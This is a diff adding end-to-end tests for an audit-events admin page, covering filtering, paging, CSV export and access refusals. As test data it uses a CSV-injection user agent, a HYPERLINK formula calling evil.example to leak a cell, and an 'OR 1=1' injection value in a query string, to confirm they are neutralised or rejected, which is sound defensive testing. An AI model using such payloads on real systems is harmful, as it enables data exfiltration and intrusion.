@@ -16,6 +16,7 @@ import {
   createUser,
   dbExec,
   dbQuery,
+  postJson,
   randomUUID,
   uniqueEmail,
   uniqueName,
@@ -235,5 +236,125 @@ describe('project settings page (JavaScript off)', { skip }, () => {
   it('fits a 360 px screen', async () => {
     const fx = fixture('cw');
     assert.ok((await fitsWidth(pageUrl(fx.projectId, 'settings'), fx.adminEmail, 360)) <= 360);
+  });
+});
+
+describe('audit events page (JavaScript off)', { skip }, () => {
+  const HOSTILE_UA = '=HYPERLINK("http://evil.example/"&A1,"click")';
+  let fx;
+  before(async () => {
+    fx = fixture('ca');
+    // Two refused sign-ins of the member into this project, from a hostile user agent.
+    for (let i = 0; i < 2; i++) {
+      const r = await postJson('auth/login', { email: fx.memberEmail, password: `wrong-password-${i}`, projectId: fx.projectId },
+        { 'User-Agent': HOSTILE_UA });
+      assert.equal(r.status, 400);
+    }
+    // 60 older events of the admin, for the pages.
+    const values = [];
+    for (let i = 0; i < 60; i++)
+      values.push(`('${randomUUID()}', UTC_TIMESTAMP(3) - INTERVAL ${i + 10} MINUTE, 'password-changed', 'U', '0', '${fx.projectId}', 'User', '${fx.adminId}')`);
+    dbExec(`INSERT INTO audit_event (id, recorded, type, action, outcome, project_id, agent_type, agent_id) VALUES ${values.join(', ')}`);
+  });
+
+  it('filters by type and user, pages, and says when nothing matches', async () => {
+    const { context, page, problems } = await signedIn(fx.adminEmail);
+    try {
+      await submit(page, 'link', fx.projectName);
+      await submit(page, 'link', 'Audit events');
+      assert.equal(new URL(page.url()).pathname, `/manage/projects/${fx.projectId}/audit`);
+      await shot(page, 'audit');
+      const rows = page.locator('tbody tr');
+      assert.equal(await rows.count(), 50, 'one page of 50');
+      assert.match(await page.locator('caption').innerText(), /Events 1 to 50/);
+      await submit(page, 'link', 'Older events');
+      assert.ok((await rows.count()) >= 13, 'the rest on the second page');
+      assert.match(await page.locator('caption').innerText(), /Events 51 to/);
+      await submit(page, 'link', 'Newer events');
+      assert.match(await page.locator('caption').innerText(), /Events 1 to 50/);
+
+      await page.getByLabel('Type', { exact: true }).selectOption('sign-in-failure');
+      await submit(page, 'button', 'Show events');
+      assert.equal(await rows.count(), 2);
+      assert.match(await rows.first().innerText(), /sign-in-failure\s+failed\s+wrong password/);
+      assert.match(await rows.first().innerText(), new RegExp(`User/${fx.memberId}`));
+      await shot(page, 'audit-filtered');
+
+      await page.getByLabel('Type', { exact: true }).selectOption('');
+      await page.getByLabel(/^User/).fill(`Practitioner/${fx.adminId}`);
+      await submit(page, 'button', 'Show events');
+      assert.equal(await page.locator('caption').innerText().then((t) => /Events 1 to 50/.test(t)), true);
+      assert.doesNotMatch(await page.locator('tbody').innerText(), new RegExp(fx.memberId));
+
+      await page.getByLabel(/^From/).fill('2099-01-01T00:00');
+      await submit(page, 'button', 'Show events');
+      assert.match(await page.locator('main').innerText(), /No events match/);
+      assert.equal(new URL(page.url()).searchParams.get('since'), '2099-01-01T00:00');
+
+      await page.goto(pageUrl(fx.projectId, "audit?user=x'%20OR%201=1&since=yesterday"));
+      assert.match(await page.locator('#user-error').innerText(), /Enter a user's id/);
+      assert.match(await page.locator('#since-error').innerText(), /Enter a date and time/);
+      assert.equal(await page.getByLabel(/^User/).getAttribute('aria-invalid'), 'true');
+      const bad = await page.request.get(pageUrl(fx.projectId, 'audit?type=nope'));
+      assert.equal(bad.status(), 400);
+      assert.deepEqual(problems, []);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('the CSV download: the filters, formula cells neutralised, no login id', async () => {
+    const { context, page } = await signedIn(fx.adminEmail);
+    try {
+      await page.goto(pageUrl(fx.projectId, 'audit?type=sign-in-failure'));
+      const href = await page.getByRole('link', { name: 'Download these events as CSV' }).getAttribute('href');
+      assert.match(href, /audit\.csv\?type=sign-in-failure$/);
+      const r = await page.request.get(href);
+      assert.equal(r.status(), 200);
+      assert.match(r.headers()['content-type'], /^text\/csv/);
+      assert.match(r.headers()['content-disposition'], new RegExp(`attachment; filename="audit-${fx.projectId}.csv"`));
+      const lines = (await r.text()).trim().split('\n');
+      assert.equal(lines[0], '"recorded","type","outcome","agent","client","address","user_agent","entity","reason"');
+      assert.equal(lines.length, 3);
+      // The user agent began with "=": it starts with an apostrophe, its quotes doubled.
+      assert.ok(lines[1].includes(`"'=HYPERLINK(""http://evil.example/""&A1,""click"")"`), lines[1]);
+      for (const line of lines.slice(1)) for (const cell of line.match(/"(?:[^"]|"")*"/g)) assert.doesNotMatch(cell, /^"[=+\-@\t\r]/);
+      const all = await (await page.request.get(pageUrl(fx.projectId, 'audit.csv'))).text();
+      assert.ok(all.split('\n').length > 60);
+      for (const [id] of dbQuery("SELECT id FROM login WHERE user_id IN (?, ?)", [fx.adminId, fx.memberId]))
+        assert.ok(!all.includes(id), 'a login id in the CSV');
+      const bad = await page.request.get(pageUrl(fx.projectId, 'audit.csv?since=never'));
+      assert.equal(bad.status(), 400);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it("refusals: a plain member, another project's events", async () => {
+    const other = fixture('ca-other');
+    const plain = await signedIn(fx.memberEmail);
+    try {
+      for (const rest of ['audit', 'audit.csv']) {
+        const r = await plain.page.goto(pageUrl(fx.projectId, rest)).catch(() => null);
+        const status = r ? r.status() : (await plain.page.request.get(pageUrl(fx.projectId, rest))).status();
+        assert.equal(status, 403, rest);
+      }
+    } finally {
+      await plain.context.close();
+    }
+    const admin = await signedIn(fx.adminEmail);
+    try {
+      for (const rest of ['audit', 'audit.csv']) {
+        const r = await admin.page.request.get(pageUrl(other.projectId, rest));
+        assert.equal(r.status(), 403, rest);
+        assert.doesNotMatch(await r.text(), new RegExp(other.adminId));
+      }
+    } finally {
+      await admin.context.close();
+    }
+  });
+
+  it('fits a 360 px screen', async () => {
+    assert.ok((await fitsWidth(pageUrl(fx.projectId, 'audit'), fx.adminEmail, 360)) <= 360);
   });
 });
